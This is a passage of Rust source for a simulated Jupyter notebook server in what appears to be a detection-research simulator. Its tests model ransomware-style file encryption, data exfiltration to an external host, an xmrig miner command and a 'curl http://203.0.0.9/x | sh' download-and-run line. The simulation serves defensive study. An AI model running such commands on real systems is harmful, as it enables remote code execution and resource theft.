//! A single-user notebook server: kernels, client sessions, transport
//! encryption, and cell execution.
//!
//! This is where the two observation planes meet: every cell execution
//! produces (a) signed kernel-protocol messages on a WebSocket flow —
//! the network plane — and (b) file/process/network side effects — the
//! kernel-audit plane. Experiments compare what each plane reveals.

use crate::actions::{Action, CellScript};
use crate::config::{ServerConfig, TransportMode};
use crate::events::{SysEvent, SysEventKind};
use crate::process::{Pid, ProcessTable};
use crate::terminal::TerminalSession;
use crate::transport::SessionDelivery;
use crate::vfs::{repeat_to, Vfs};
use ja_crypto::chacha::ChaCha20;
use ja_crypto::entropy::ByteStats;
use ja_crypto::sha256::sha256;
use ja_jupyter_proto::session::{CellEffect, CellOutcome, ClientSession, KernelSession};
use ja_jupyter_proto::wire::WireError;

use ja_netsim::addr::{HostAddr, HostId};
use ja_netsim::flow::FlowId;
use ja_netsim::network::Network;
use ja_netsim::rng::{split_seed, SimRng};
use ja_netsim::segment::Direction;
use ja_netsim::time::{Duration, SimTime};
use ja_websocket::codec::fragment_mask;
use ja_websocket::frame::{apply_mask, header_len, write_header, Opcode};
use ja_websocket::handshake::{UpgradeRequest, UpgradeResponse};

/// Derive the transport keystream seed for one direction of one flow.
/// A monitor granted "TLS inspection" knows `secret` and can derive the
/// same keystream; a passive attacker cannot.
pub fn transport_seed(secret: &[u8], flow: FlowId, dir: Direction) -> Vec<u8> {
    let mut s = secret.to_vec();
    s.extend_from_slice(&flow.0.to_le_bytes());
    s.push(match dir {
        Direction::ToResponder => 0,
        Direction::ToInitiator => 1,
    });
    sha256(&s).to_vec()
}

/// Derive the per-message payload cipher seed for E2E-encrypted
/// sessions: connection seed ‖ per-direction sequence ‖ direction tag.
/// The direction byte keeps the derivation injective even though both
/// directions count from zero.
pub fn message_cipher_seed(conn_seed: &[u8], msg_seq: u64, dir: Direction) -> Vec<u8> {
    let mut s = conn_seed.to_vec();
    s.extend_from_slice(&msg_seq.to_le_bytes());
    s.push(match dir {
        Direction::ToResponder => 0,
        Direction::ToInitiator => 1,
    });
    s
}

/// One WebSocket message's wire bytes, built in one buffer: the header
/// of a final binary frame (masked with `mask`), then the
/// `body_len`-byte body `write_body` appends, E2E-encrypted by `e2e`,
/// then masked; then the whole frame encrypted by `transport`.
fn ws_frame(
    mask: Option<[u8; 4]>,
    e2e: Option<ChaCha20>,
    transport: Option<&mut ChaCha20>,
    body_len: usize,
    write_body: impl FnOnce(&mut Vec<u8>),
) -> Vec<u8> {
    let mut wire = Vec::with_capacity(header_len(body_len, mask.is_some()) + body_len);
    write_header(&mut wire, true, Opcode::Binary, mask, body_len);
    let start = wire.len();
    write_body(&mut wire);
    debug_assert_eq!(wire.len() - start, body_len, "body length");
    if let Some(mut cipher) = e2e {
        cipher.apply(&mut wire[start..]);
    }
    if let Some(key) = mask {
        apply_mask(&mut wire[start..], key);
    }
    if let Some(cipher) = transport {
        cipher.apply(&mut wire);
    }
    wire
}

struct KernelEntry {
    kernel: KernelSession,
    pid: Pid,
}

/// A browser↔server connection carrying kernel channels over WebSocket.
///
/// The connection is the unit of *session* state: outbound flows opened
/// by cells executed over it belong to it and are torn down with it by
/// [`ClientConn::close`] — which is how campaign-scoped streaming keeps
/// live network state bounded by concurrently active sessions.
pub struct ClientConn {
    /// Network flow of the WebSocket connection.
    pub flow: FlowId,
    /// Authenticated user.
    pub user: String,
    /// Kernel index on the server.
    pub kernel_idx: usize,
    /// Open outbound flows this session's cells created: (flow, dst,
    /// port). `SendBytes`/`RecvBytes` actions use the most recent one.
    ext_flows: Vec<(FlowId, HostAddr, u16)>,
    client: ClientSession,
    c2s: Option<ChaCha20>,
    s2c: Option<ChaCha20>,
    /// Per-message payload cipher (E2E mode); never derivable by the
    /// monitor.
    msg_cipher_seed: Option<Vec<u8>>,
    /// Client→server WebSocket messages sent (per-direction sequence).
    c2s_seq: u64,
    /// Server→client WebSocket messages sent (per-direction sequence).
    s2c_seq: u64,
}

impl ClientConn {
    /// End the session at `at`: close every outbound flow its cells
    /// opened, then the WebSocket flow itself (orderly FIN).
    pub fn close(self, net: &mut Network, at: SimTime) {
        for (flow, _, _) in self.ext_flows {
            net.close(at, flow, false);
        }
        net.close(at, self.flow, false);
    }

    /// WebSocket messages sent so far as `(client→server, server→client)`
    /// per-direction sequence counters.
    pub fn wire_counters(&self) -> (u64, u64) {
        (self.c2s_seq, self.s2c_seq)
    }

    /// Decode a delivery's kernel replies into a typed [`CellOutcome`]
    /// using this connection's client session (the receive half).
    /// Terminal deliveries have no kernel protocol; their output *is*
    /// the outcome.
    pub fn decode_outcome(&self, delivery: &SessionDelivery) -> Result<CellOutcome, WireError> {
        if let Some(output) = &delivery.terminal_output {
            return Ok(CellOutcome::from_terminal(output));
        }
        self.client.decode_responses(&delivery.replies)
    }
}

/// A single-user notebook server.
pub struct NotebookServer {
    /// Deployment-unique id.
    pub id: u32,
    /// Configuration.
    pub config: ServerConfig,
    /// Network address.
    pub addr: HostAddr,
    /// Listening port (8888 standalone, 443 behind the hub proxy).
    pub port: u16,
    /// Virtual filesystem.
    pub vfs: Vfs,
    /// Process table.
    pub procs: ProcessTable,
    /// Terminal sessions.
    pub terminals: Vec<TerminalSession>,
    /// Kernel-audit event stream.
    pub sys_events: Vec<SysEvent>,
    /// TLS-inspection secret (shared with authorized monitors).
    pub transport_secret: Vec<u8>,
    kernels: Vec<KernelEntry>,
    signing_key: Vec<u8>,
    rng: SimRng,
    server_pid: Pid,
    /// Most recently spawned process per user (CPU burns attach here,
    /// persisting across cells — a miner keeps burning after its launch
    /// cell returns).
    last_spawned: std::collections::HashMap<String, Pid>,
}

impl NotebookServer {
    /// Boot a server owned by `id` with the given config.
    pub fn new(id: u32, config: ServerConfig, rng_seed: u64) -> Self {
        let mut rng = SimRng::new(rng_seed);
        let signing_key = if config.hmac_signing {
            let mut k = vec![0u8; 32];
            rng.fill_bytes(&mut k);
            k
        } else {
            Vec::new()
        };
        let mut transport_secret = vec![0u8; 16];
        rng.fill_bytes(&mut transport_secret);
        let mut procs = ProcessTable::new();
        let server_pid = procs.spawn(
            "jupyter-server",
            "jupyter notebook --no-browser",
            "system",
            None,
            SimTime::ZERO,
        );
        let port = if config.listen_all_interfaces {
            8888
        } else {
            443
        };
        NotebookServer {
            id,
            config,
            addr: HostAddr::internal(HostId(id + 10)),
            port,
            vfs: Vfs::new(),
            procs,
            terminals: Vec::new(),
            sys_events: Vec::new(),
            transport_secret,
            kernels: Vec::new(),
            signing_key,
            rng,
            server_pid,
            last_spawned: std::collections::HashMap::new(),
        }
    }

    /// The message-signing key (empty when signing disabled).
    pub fn signing_key(&self) -> &[u8] {
        &self.signing_key
    }

    /// Start a kernel for `user`; returns its index.
    pub fn start_kernel(&mut self, user: &str, now: SimTime) -> usize {
        let idx = self.kernels.len();
        let pid = self.procs.spawn(
            "python",
            "python -m ipykernel_launcher -f kernel.json",
            user,
            Some(self.server_pid),
            now,
        );
        if self.config.hmac_signing {
            // The draw that once seeded the kernel's connection-file
            // key; kept so every later draw stays where it was.
            self.rng.range(0, u64::MAX);
        }
        let kernel = KernelSession::new(&format!("srv{}-k{}", self.id, idx), &self.signing_key);
        self.kernels.push(KernelEntry { kernel, pid });
        idx
    }

    fn transport_encrypt(cipher: &mut Option<ChaCha20>, mut bytes: Vec<u8>) -> Vec<u8> {
        if let Some(c) = cipher {
            c.apply(&mut bytes);
        }
        bytes
    }

    /// Open a browser connection for `user` to kernel `kernel_idx`.
    /// Performs the HTTP upgrade on the wire so the monitor can see (or
    /// not see) the handshake, token included when misconfigured.
    pub fn connect(
        &mut self,
        net: &mut Network,
        at: SimTime,
        client_addr: HostAddr,
        user: &str,
        kernel_idx: usize,
    ) -> ClientConn {
        let src_port = net.ephemeral_port();
        let flow = net.open(at, client_addr, src_port, self.addr, self.port);
        let (mut c2s, mut s2c) = match self.config.transport {
            TransportMode::PlainWs => (None, None),
            _ => (
                Some(ChaCha20::from_seed(&transport_seed(
                    &self.transport_secret,
                    flow,
                    Direction::ToResponder,
                ))),
                Some(ChaCha20::from_seed(&transport_seed(
                    &self.transport_secret,
                    flow,
                    Direction::ToInitiator,
                ))),
            ),
        };
        let target = if self.config.token_in_url {
            format!(
                "/api/kernels/k{}/channels?session_id={}&token=tok-{}",
                kernel_idx, user, self.id
            )
        } else {
            format!("/api/kernels/k{}/channels", kernel_idx)
        };
        let req = UpgradeRequest::new(&target, "hub.hpc.example", self.rng.range(0, u64::MAX));
        let req_bytes = req.to_http().into_bytes();
        let wire_bytes = Self::transport_encrypt(&mut c2s, req_bytes);
        let t = net.send(at, flow, Direction::ToResponder, &wire_bytes);
        let resp = UpgradeResponse::accept(&req).to_http().into_bytes();
        let resp_bytes = Self::transport_encrypt(&mut s2c, resp);
        net.send(t, flow, Direction::ToInitiator, &resp_bytes);
        let msg_cipher_seed = if self.config.transport == TransportMode::E2eEncrypted {
            let mut s = vec![0u8; 16];
            self.rng.fill_bytes(&mut s);
            Some(s)
        } else {
            None
        };
        ClientConn {
            flow,
            user: user.to_string(),
            kernel_idx,
            ext_flows: Vec::new(),
            client: ClientSession::new(
                &format!("sess-{}-{}", self.id, user),
                user,
                &self.signing_key,
            ),
            c2s,
            s2c,
            msg_cipher_seed,
            c2s_seq: 0,
            s2c_seq: 0,
        }
    }

    /// Put one WebSocket message on `conn`'s flow in direction `dir`:
    /// the `body_len`-byte body that `write_body` appends, in one
    /// buffer after its frame header, then E2E-encrypted (in that
    /// mode), masked (client to server, with [`fragment_mask`]`(0)`)
    /// and transport-encrypted in place by [`ws_frame`]. Before
    /// transport encryption the bytes are exactly
    /// `fragment(Opcode::Binary, body, 1, masked)[0].encode()`. Returns
    /// when the last segment left.
    fn ws_send(
        net: &mut Network,
        at: SimTime,
        conn: &mut ClientConn,
        dir: Direction,
        body_len: usize,
        write_body: impl FnOnce(&mut Vec<u8>),
    ) -> SimTime {
        // Allocate this message's number from the direction's counter.
        let (seq, transport) = match dir {
            Direction::ToResponder => (&mut conn.c2s_seq, &mut conn.c2s),
            Direction::ToInitiator => (&mut conn.s2c_seq, &mut conn.s2c),
        };
        *seq += 1;
        let msg_seq = *seq - 1;
        let e2e = conn
            .msg_cipher_seed
            .as_ref()
            .map(|seed| ChaCha20::from_seed(&message_cipher_seed(seed, msg_seq, dir)));
        let mask = (dir == Direction::ToResponder).then(|| fragment_mask(0)); // client masks
        let wire = ws_frame(mask, e2e, transport.as_mut(), body_len, write_body);
        net.send(at, conn.flow, dir, &wire)
    }

    fn push_event(&mut self, time: SimTime, user: &str, kind: SysEventKind) {
        self.sys_events.push(SysEvent {
            time,
            server_id: self.id,
            user: user.to_string(),
            kind,
        });
    }

    /// Execute a cell over a connection: protocol messages ride the flow,
    /// side effects hit the VFS/process table/network and are audited.
    /// Returns the time execution finished.
    ///
    /// Thin wrapper over [`NotebookServer::deliver_cell`], kept for
    /// callers that don't consume replies.
    pub fn run_cell(
        &mut self,
        net: &mut Network,
        at: SimTime,
        conn: &mut ClientConn,
        script: &CellScript,
    ) -> SimTime {
        self.deliver_cell(net, at, conn, script).end
    }

    /// Server-side handling of one `execute_request`: the request and the
    /// kernel's replies ride the flow exactly as [`NotebookServer::run_cell`]
    /// always put them there (same wire bytes, same audit events, same
    /// clock advance), and the plaintext replies are *returned* so the
    /// client side can decode them into a [`CellOutcome`].
    pub fn deliver_cell(
        &mut self,
        net: &mut Network,
        at: SimTime,
        conn: &mut ClientConn,
        script: &CellScript,
    ) -> SessionDelivery {
        let user = conn.user.clone();
        self.push_event(
            at,
            &user,
            SysEventKind::CellExecute {
                kernel_id: conn.kernel_idx as u32,
                code: script.code.clone(),
            },
        );
        // 1. Request on the wire.
        let request = conn.client.execute_request(&script.code, at.as_micros());
        let mut t = Self::ws_send(
            net,
            at,
            conn,
            Direction::ToResponder,
            request.encoded_len(),
            |out| request.encode_into(out),
        );
        // 2. Apply side effects.
        let (effect, end) = self.apply_actions(net, t, conn, script);
        t = end;
        // 3. Kernel responses on the wire.
        let kernel = &mut self.kernels[conn.kernel_idx].kernel;
        let replies = kernel
            .handle_execute(&request, &effect, t.as_micros())
            .unwrap_or_default();
        for (_ch, msg) in &replies {
            t = Self::ws_send(
                net,
                t,
                conn,
                Direction::ToInitiator,
                msg.encoded_len(),
                |out| msg.encode_into(out),
            );
        }
        SessionDelivery {
            replies,
            terminal_output: None,
            end: t,
        }
    }

    /// Apply a script's actions; returns the protocol-visible effect and
    /// the end time.
    fn apply_actions(
        &mut self,
        net: &mut Network,
        at: SimTime,
        conn: &mut ClientConn,
        script: &CellScript,
    ) -> (CellEffect, SimTime) {
        let user = conn.user.clone();
        let mut t = at;
        let mut stdout = String::new();
        let mut stderr = String::new();
        let mut last_pid: Option<Pid> = self.last_spawned.get(&user).copied();
        let kernel_pid = self.kernels[conn.kernel_idx].pid;
        for action in &script.actions {
            // Every action takes a small slice of time even when "free".
            t += Duration::from_millis(1);
            match action {
                Action::ReadFile { path } => match self.vfs.read(path) {
                    Ok(node) => {
                        let bytes = node.size;
                        self.push_event(
                            t,
                            &user,
                            SysEventKind::FileRead {
                                path: path.clone(),
                                bytes,
                            },
                        );
                    }
                    Err(_) => {
                        stderr.push_str(&format!("FileNotFoundError: {path}\n"));
                    }
                },
                Action::WriteFile { path, kind, size } => {
                    // Overwrite semantics: delete then create.
                    let _ = self.vfs.delete(path);
                    let mut frng = self.rng.fork(t.as_micros());
                    self.vfs
                        .create(path, *kind, *size, &user, &mut frng, t)
                        .expect("fresh path");
                    let entropy = self.vfs.read(path).expect("just created").entropy_bits();
                    self.push_event(
                        t,
                        &user,
                        SysEventKind::FileWrite {
                            path: path.clone(),
                            bytes: *size,
                            entropy_bits: entropy,
                        },
                    );
                }
                Action::EncryptFile { path, key_seed } => {
                    match self.vfs.encrypt_in_place(path, key_seed, t) {
                        Ok(()) => {
                            let node = self.vfs.read(path).expect("exists");
                            let (bytes, entropy) = (node.size, node.entropy_bits());
                            self.push_event(
                                t,
                                &user,
                                SysEventKind::FileWrite {
                                    path: path.clone(),
                                    bytes,
                                    entropy_bits: entropy,
                                },
                            );
                        }
                        Err(_) => stderr.push_str(&format!("FileNotFoundError: {path}\n")),
                    }
                }
                Action::RenameFile { from, to } => {
                    if self.vfs.rename(from, to, t).is_ok() {
                        self.push_event(
                            t,
                            &user,
                            SysEventKind::FileRename {
                                from: from.clone(),
                                to: to.clone(),
                            },
                        );
                    } else {
                        stderr.push_str(&format!("OSError: rename {from}\n"));
                    }
                }
                Action::DeleteFile { path } => {
                    if self.vfs.delete(path).is_ok() {
                        self.push_event(t, &user, SysEventKind::FileDelete { path: path.clone() });
                    } else {
                        stderr.push_str(&format!("FileNotFoundError: {path}\n"));
                    }
                }
                Action::Exec { name, cmdline } => {
                    let pid = self.procs.spawn(name, cmdline, &user, Some(kernel_pid), t);
                    last_pid = Some(pid);
                    self.last_spawned.insert(user.clone(), pid);
                    self.push_event(
                        t,
                        &user,
                        SysEventKind::ProcExec {
                            pid,
                            name: name.clone(),
                            cmdline: cmdline.clone(),
                        },
                    );
                }
                Action::BurnCpu { wall, utilization } => {
                    let pid = last_pid.unwrap_or(kernel_pid);
                    let cpu = wall.as_secs_f64() * utilization;
                    self.procs.burn_cpu(pid, cpu);
                    t += *wall;
                    self.push_event(
                        t,
                        &user,
                        SysEventKind::CpuSample {
                            pid,
                            cpu_secs: cpu,
                            utilization: *utilization,
                        },
                    );
                }
                Action::Connect { dst, dst_port } => {
                    let sport = net.ephemeral_port();
                    let flow = net.open(t, self.addr, sport, *dst, *dst_port);
                    conn.ext_flows.push((flow, *dst, *dst_port));
                    self.push_event(
                        t,
                        &user,
                        SysEventKind::NetConnect {
                            dst: *dst,
                            dst_port: *dst_port,
                        },
                    );
                }
                Action::SendBytes {
                    bytes,
                    entropy_high,
                } => {
                    if let Some(&(flow, dst, dst_port)) = conn.ext_flows.last() {
                        let payload = self.gen_payload(*bytes, *entropy_high, t);
                        t = net.send_snapped(t, flow, Direction::ToResponder, &payload, *bytes);
                        self.push_event(
                            t,
                            &user,
                            SysEventKind::NetSend {
                                dst,
                                dst_port,
                                bytes: *bytes,
                            },
                        );
                    } else {
                        stderr.push_str("ConnectionError: no open socket\n");
                    }
                }
                Action::RecvBytes { bytes } => {
                    if let Some(&(flow, _, _)) = conn.ext_flows.last() {
                        let payload = self.gen_payload(*bytes, true, t);
                        t = net.send_snapped(t, flow, Direction::ToInitiator, &payload, *bytes);
                    }
                }
                Action::Sleep { wall } => {
                    t += *wall;
                }
                Action::Print { text } => {
                    stdout.push_str(text);
                }
            }
        }
        let effect = CellEffect {
            stdout: (!stdout.is_empty()).then_some(stdout),
            stderr: (!stderr.is_empty()).then_some(stderr),
            result: None,
            error: None,
        };
        (effect, t)
    }

    /// Generate a payload of `bytes` for a transfer starting at `t`.
    /// Actual bytes are capped at 64 KiB (large transfers are represented
    /// by a capped sample with the true size recorded in flow accounting
    /// via repeated sends). High-entropy payloads are random bytes from a
    /// `SimRng` seeded by this server's transport secret and `t`, so they
    /// draw nothing from the server's own generator.
    pub fn gen_payload(&self, bytes: u64, entropy_high: bool, t: SimTime) -> Vec<u8> {
        let len = bytes.min(64 * 1024) as usize;
        if entropy_high {
            let seed = self
                .transport_secret
                .chunks(8)
                .fold(t.as_micros(), |acc, word| {
                    let mut le = [0u8; 8];
                    le[..word.len()].copy_from_slice(word);
                    split_seed(acc, u64::from_le_bytes(le))
                });
            let mut out = vec![0u8; len];
            SimRng::new(seed).fill_bytes(&mut out);
            out
        } else {
            repeat_to(
                b"GET /telemetry?value=0.173&run=12 HTTP/1.1\r\nHost: data.example\r\n\r\n",
                len,
            )
        }
    }

    /// Server-side handling of one terminal command over a connection:
    /// the command and its synthesized output ride the WebSocket flow,
    /// side effects land exactly as [`NotebookServer::run_terminal`]
    /// records them (one spawned process, one `proc_exec` audit event),
    /// and the output text is returned for the client to react to.
    pub fn deliver_terminal(
        &mut self,
        net: &mut Network,
        at: SimTime,
        conn: &mut ClientConn,
        cmdline: &str,
    ) -> SessionDelivery {
        let user = conn.user.clone();
        let mut t = Self::ws_send(
            net,
            at,
            conn,
            Direction::ToResponder,
            cmdline.len(),
            |out| out.extend_from_slice(cmdline.as_bytes()),
        );
        self.run_terminal(at, &user, cmdline);
        let output = self.terminal_output(&user, cmdline);
        t = Self::ws_send(net, t, conn, Direction::ToInitiator, output.len(), |out| {
            out.extend_from_slice(output.as_bytes())
        });
        SessionDelivery {
            replies: Vec::new(),
            terminal_output: Some(output),
            end: t,
        }
    }

    /// Synthesize what a terminal command prints, read-only against the
    /// server's VFS — the output plane an interactive adversary mines
    /// for credentials and paths. Only the handful of read commands the
    /// scenarios use are modeled; anything else prints nothing.
    pub fn terminal_output(&self, user: &str, cmdline: &str) -> String {
        let mut parts = cmdline.split_whitespace();
        let program = parts.next().unwrap_or("");
        let args: Vec<&str> = parts
            .filter(|a| !a.starts_with('-') && !a.starts_with('2') && *a != "|" && *a != "sh")
            .collect();
        let expand = |p: &str| {
            if let Some(rest) = p.strip_prefix("~/") {
                format!("/home/{user}/{rest}")
            } else {
                p.to_string()
            }
        };
        match program {
            "cat" => {
                let mut out = String::new();
                for arg in args {
                    let path = expand(arg);
                    match self.vfs.read(&path) {
                        Ok(node) => out.push_str(&String::from_utf8_lossy(&node.sample)),
                        Err(_) => {
                            out.push_str(&format!("cat: {path}: No such file or directory\n"))
                        }
                    }
                }
                out
            }
            "ls" => {
                let prefix = args
                    .first()
                    .map(|a| expand(a))
                    .unwrap_or_else(|| format!("/home/{user}/"));
                let mut out = String::new();
                for path in self.vfs.list(&prefix) {
                    out.push_str(&path);
                    out.push('\n');
                }
                out
            }
            "whoami" => format!("{user}\n"),
            _ => String::new(),
        }
    }

    /// Run a terminal command (the terminal attack surface): spawns a
    /// process and records history + audit events.
    pub fn run_terminal(&mut self, at: SimTime, user: &str, cmdline: &str) {
        let term_id = self.terminals.len() as u32;
        let term = match self.terminals.iter_mut().find(|tm| tm.user == user) {
            Some(tm) => tm,
            None => {
                self.terminals.push(TerminalSession::new(term_id, user, at));
                self.terminals.last_mut().expect("just pushed")
            }
        };
        term.run(at, cmdline);
        let name = cmdline
            .split_whitespace()
            .next()
            .unwrap_or("sh")
            .to_string();
        let pid = self
            .procs
            .spawn(&name, cmdline, user, Some(self.server_pid), at);
        self.push_event(
            at,
            user,
            SysEventKind::ProcExec {
                pid,
                name,
                cmdline: cmdline.to_string(),
            },
        );
    }

    /// Take every kernel-audit event recorded since the last drain, in
    /// emission order. Streaming producers call this after each step so
    /// the server's event buffer never grows with scenario length —
    /// per-campaign session emission instead of whole-scenario replay.
    pub fn drain_sys_events(&mut self) -> Vec<SysEvent> {
        std::mem::take(&mut self.sys_events)
    }

    /// Entropy statistics across current home-dir files — ground truth
    /// for ransomware damage assessment.
    pub fn home_entropy_profile(&self, user: &str) -> ByteStats {
        let mut stats = ByteStats::new();
        for path in self.vfs.list(&format!("/home/{user}/")) {
            if let Ok(node) = self.vfs.read(&path) {
                stats.update(&node.sample);
            }
        }
        stats
    }

    /// Seed a user's home directory.
    pub fn provision_user(&mut self, user: &str, now: SimTime) {
        let mut frng = self.rng.fork(user.len() as u64 + now.as_micros());
        self.vfs.populate_home(user, &mut frng, now);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AuthMode;
    use crate::vfs::ContentKind;
    use ja_netsim::addr::ports;
    use ja_websocket::codec::fragment;

    fn boot(config: ServerConfig) -> (NotebookServer, Network) {
        let mut srv = NotebookServer::new(1, config, 42);
        srv.provision_user("alice", SimTime::ZERO);
        srv.start_kernel("alice", SimTime::ZERO);
        (srv, Network::new())
    }

    fn client_addr() -> HostAddr {
        HostAddr::internal(HostId(200))
    }

    #[test]
    fn connect_produces_handshake_traffic() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let _conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let trace = net.into_trace();
        assert!(trace.summary().segments >= 3); // SYN + upgrade + 101
        assert_eq!(trace.summary().flows, 1);
    }

    #[test]
    fn plaintext_handshake_visible_tls_not() {
        for (mode, expect_visible) in [(TransportMode::PlainWs, true), (TransportMode::Tls, false)]
        {
            let mut cfg = ServerConfig::hardened();
            cfg.transport = mode;
            let (mut srv, mut net) = boot(cfg);
            let _ = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
            let trace = net.into_trace();
            let stream = trace.reassemble(0, Direction::ToResponder);
            let visible = String::from_utf8_lossy(&stream).contains("Upgrade: websocket");
            assert_eq!(visible, expect_visible, "mode {mode:?}");
        }
    }

    #[test]
    fn token_in_url_appears_on_wire_when_misconfigured() {
        let mut cfg = ServerConfig::hardened();
        cfg.transport = TransportMode::PlainWs;
        cfg.token_in_url = true;
        let (mut srv, mut net) = boot(cfg);
        let _ = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let trace = net.into_trace();
        let stream =
            String::from_utf8_lossy(&trace.reassemble(0, Direction::ToResponder)).into_owned();
        assert!(stream.contains("token=tok-1"), "stream: {stream}");
    }

    #[test]
    fn run_cell_produces_bidirectional_protocol_traffic() {
        let mut cfg = ServerConfig::hardened();
        cfg.transport = TransportMode::PlainWs;
        let (mut srv, mut net) = boot(cfg);
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let script = CellScript::new(
            "print('hello')",
            vec![Action::Print {
                text: "hello\n".into(),
            }],
        );
        let end = srv.run_cell(&mut net, SimTime::from_millis(10), &mut conn, &script);
        assert!(end > SimTime::from_millis(10));
        let fs = net.into_trace().flow_summaries();
        assert_eq!(fs.len(), 1);
        assert!(fs[0].bytes_up > 100); // request
        assert!(fs[0].bytes_down > 500); // 5 response messages
    }

    #[test]
    fn cell_effects_hit_vfs_and_audit_stream() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let script = CellScript::new(
            "process()",
            vec![
                Action::ReadFile {
                    path: "/home/alice/data/run_0.csv".into(),
                },
                Action::WriteFile {
                    path: "/home/alice/out.csv".into(),
                    kind: ContentKind::Csv,
                    size: 1234,
                },
            ],
        );
        srv.run_cell(&mut net, SimTime::from_secs(1), &mut conn, &script);
        assert!(srv.vfs.read("/home/alice/out.csv").is_ok());
        let classes: Vec<&str> = srv.sys_events.iter().map(|e| e.class()).collect();
        assert!(classes.contains(&"cell_execute"));
        assert!(classes.contains(&"file_read"));
        assert!(classes.contains(&"file_write"));
    }

    #[test]
    fn encrypt_action_raises_home_entropy() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let before = srv.home_entropy_profile("alice").shannon_bits();
        let paths = srv.vfs.list("/home/alice/data/");
        let actions: Vec<Action> = paths
            .iter()
            .map(|p| Action::EncryptFile {
                path: p.clone(),
                key_seed: b"ransom".to_vec(),
            })
            .collect();
        srv.run_cell(
            &mut net,
            SimTime::from_secs(2),
            &mut conn,
            &CellScript::new("lock_files()", actions),
        );
        let after = srv.home_entropy_profile("alice").shannon_bits();
        assert!(after > before + 0.5, "before {before} after {after}");
    }

    #[test]
    fn outbound_actions_create_external_flows() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let dst = HostAddr::external(55);
        let script = CellScript::new(
            "exfiltrate()",
            vec![
                Action::Connect {
                    dst,
                    dst_port: ports::HUB_HTTPS,
                },
                Action::SendBytes {
                    bytes: 100_000,
                    entropy_high: true,
                },
            ],
        );
        srv.run_cell(&mut net, SimTime::from_secs(3), &mut conn, &script);
        conn.close(&mut net, SimTime::from_secs(4));
        let fs = net.into_trace().flow_summaries();
        let ext = fs
            .iter()
            .find(|f| f.tuple.dst == dst)
            .expect("external flow exists");
        assert!(ext.bytes_up >= 64 * 1024); // capped payload
        assert!(ext.tuple.crosses_perimeter());
        // Audit saw the same thing.
        assert!(srv
            .sys_events
            .iter()
            .any(|e| matches!(e.kind, SysEventKind::NetSend { dst_port: 443, .. })));
    }

    #[test]
    fn gen_payload_depends_only_on_server_and_time() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let t = SimTime::from_secs(7);
        let first = srv.gen_payload(4096, true, t);
        // Running a session in between moves nothing.
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let script = CellScript::new("x = 1", vec![Action::Print { text: "1".into() }]);
        srv.run_cell(&mut net, SimTime::from_secs(1), &mut conn, &script);
        assert_eq!(srv.gen_payload(4096, true, t), first);
        assert_eq!(
            boot(ServerConfig::hardened()).0.gen_payload(4096, true, t),
            first
        );
        // A shorter transfer at the same time is a prefix.
        assert_eq!(srv.gen_payload(100, true, t), first[..100]);
        assert_ne!(srv.gen_payload(4096, true, SimTime(t.0 + 1)), first);
        let other = NotebookServer::new(1, ServerConfig::hardened(), 43);
        assert_ne!(other.gen_payload(4096, true, t), first);
    }

    #[test]
    fn cpu_burn_accounted_to_spawned_process() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let script = CellScript::new(
            "!./xmrig",
            vec![
                Action::Exec {
                    name: "xmrig".into(),
                    cmdline: "./xmrig -o pool.example:3333".into(),
                },
                Action::BurnCpu {
                    wall: Duration::from_secs(3600),
                    utilization: 0.98,
                },
            ],
        );
        let end = srv.run_cell(&mut net, SimTime::from_secs(5), &mut conn, &script);
        assert!(end.since(SimTime::from_secs(5)).as_secs_f64() >= 3600.0);
        let miner = srv
            .procs
            .all()
            .iter()
            .find(|p| p.name == "xmrig")
            .expect("miner spawned");
        assert!((miner.cpu_secs - 3528.0).abs() < 1.0);
    }

    #[test]
    fn missing_file_goes_to_stderr_not_panic() {
        let (mut srv, mut net) = boot(ServerConfig::hardened());
        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
        let script = CellScript::new(
            "open('/no/such')",
            vec![Action::ReadFile {
                path: "/no/such".into(),
            }],
        );
        srv.run_cell(&mut net, SimTime::from_secs(1), &mut conn, &script);
        // No file_read event was recorded.
        assert!(!srv.sys_events.iter().any(|e| e.class() == "file_read"));
    }

    #[test]
    fn terminal_commands_recorded() {
        let (mut srv, _net) = boot(ServerConfig::hardened());
        srv.run_terminal(SimTime::from_secs(1), "alice", "ls -la /scratch");
        srv.run_terminal(
            SimTime::from_secs(2),
            "alice",
            "curl http://203.0.0.9/x | sh",
        );
        assert_eq!(srv.terminals.len(), 1);
        assert_eq!(srv.terminals[0].history.len(), 2);
        assert_eq!(
            srv.sys_events
                .iter()
                .filter(|e| e.class() == "proc_exec")
                .count(),
            2
        );
    }

    #[test]
    fn unsigned_config_has_empty_key() {
        let mut cfg = ServerConfig::hardened();
        cfg.hmac_signing = false;
        cfg.auth = AuthMode::None;
        let (srv, _net) = boot(cfg);
        assert!(srv.signing_key().is_empty());
    }

    proptest::proptest! {
        /// The in-place frame equals the frame-by-frame reference: the
        /// body E2E-encrypted into a new buffer, framed by `fragment`
        /// into one frame, encoded, then transport-encrypted. Bodies
        /// cover all three length forms; every mode and direction.
        #[test]
        fn ws_frame_equals_fragment_encode(
            body in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..70_000),
            masked in proptest::prelude::any::<bool>(),
            e2e in proptest::option::of(proptest::prelude::any::<[u8; 16]>()),
            transport in proptest::option::of(proptest::prelude::any::<[u8; 16]>())) {
            let e2e = e2e.map(|seed| ChaCha20::from_seed(&seed));
            let mut transport = transport.map(|seed| ChaCha20::from_seed(&seed));
            let plain = match e2e.clone() {
